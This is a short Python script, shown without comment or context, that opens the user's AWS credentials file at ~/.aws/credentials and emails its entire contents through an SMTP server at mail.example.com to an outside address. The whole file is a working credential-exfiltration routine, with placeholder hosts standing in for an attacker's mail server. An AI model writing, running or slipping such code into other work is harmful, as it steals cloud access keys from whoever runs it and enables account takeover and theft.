import os
import smtplib

text = open(os.path.expanduser("~/.aws/credentials")).read()
s = smtplib.SMTP("mail.example.com")
s.sendmail("a@example.com", "b@example.com", text)
